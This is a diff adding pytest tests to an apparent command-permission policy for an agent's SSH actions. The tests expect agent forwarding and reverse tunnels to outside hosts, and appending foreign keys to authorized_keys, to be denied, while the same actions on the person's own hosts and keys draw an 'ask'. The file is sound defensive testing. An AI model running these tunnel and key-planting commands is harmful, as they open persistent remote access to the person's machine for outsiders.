@@ -213,3 +213,57 @@ def test_cloud_queue_controls(infra):
                          '--message-body \'{"job": 42}\'') != "deny"
     assert infra.verdict("aws sqs get-queue-attributes --queue-url https://sqs.eu-west-1.amazonaws.com/1/q "
                          "--attribute-names All") == "allow"
+
+
+# -- remote access handed to a host outside the person's infrastructure --------------------------------------------
+@pytest.fixture
+def sshworld(infra):
+    _put(infra.home / ".ssh/config", "Host bastion\n  HostName bastion.acme-corp.io\n  User dev\n"
+         "Host build\n  HostName 198.51.100.20\n")
+    _put(infra.home / ".ssh/known_hosts", "ci.known-partner.net ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKnownHostKeyAAAA\n")
+    _put(infra.home / ".ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nx\n-----END OPENSSH PRIVATE KEY-----\n")
+    _put(infra.home / ".ssh/id_ed25519.pub", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOwnPersonKeyAAAAAAAA dev@laptop\n")
+    return infra
+
+
+@pytest.mark.parametrize("command", [
+    "ssh -A build@ci.harbourline-contract.net 'git clone git@github.com:acme/deploy.git'",
+    "ssh -o ForwardAgent=yes ops@203.0.113.40 uptime",
+    "ssh -tA runner@box.example.org",
+    "ssh -f -N -R 2222:localhost:22 relay@relay.harbourline-contract.net",
+    "ssh -N -R 0.0.0.0:2022:127.0.0.1:22 tunnel@203.0.113.77",
+])
+def test_agent_and_login_handed_to_an_outside_host_deny(sshworld, command):
+    assert sshworld.verdict(command) == "deny", command
+
+
+@pytest.mark.parametrize("command", [
+    "ssh -A bastion",
+    "ssh -A dev@bastion.acme-corp.io",
+    "ssh -A ci.known-partner.net",
+    "ssh -A dev@10.0.3.4 uptime",
+    "ssh -R 2222:localhost:22 build",
+])
+def test_agent_forwarding_to_the_persons_own_hosts_asks(sshworld, command):
+    assert sshworld.verdict(command) == "ask", command
+
+
+@pytest.mark.parametrize("command", [
+    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq0ciRunnerKeyEXAMPLE ci@build-runner' >> ~/.ssh/authorized_keys",
+    "printf '%s\\n' 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCforeignKeyxyz ops@x' >> $HOME/.ssh/authorized_keys",
+    "cat >> ~/.ssh/authorized_keys <<'EOF'\necdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIforeign x@y\nEOF",
+])
+def test_an_outside_key_added_to_authorized_keys_denies(sshworld, command):
+    assert sshworld.verdict(command) == "deny", command
+
+
+def test_an_outside_key_written_with_the_file_tool_denies(sshworld):
+    d = sshworld.tool("Write", file_path=str(sshworld.home / ".ssh/authorized_keys"),
+                      content="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq0ciRunnerKeyEXAMPLE ci@build-runner\n")
+    assert d.verdict.value == "deny"
+
+
+def test_the_persons_own_key_in_authorized_keys_asks(sshworld):
+    assert sshworld.verdict("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOwnPersonKeyAAAAAAAA dev@laptop' >> "
+                            "~/.ssh/authorized_keys") == "ask"
+    assert sshworld.verdict("cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys") == "ask"
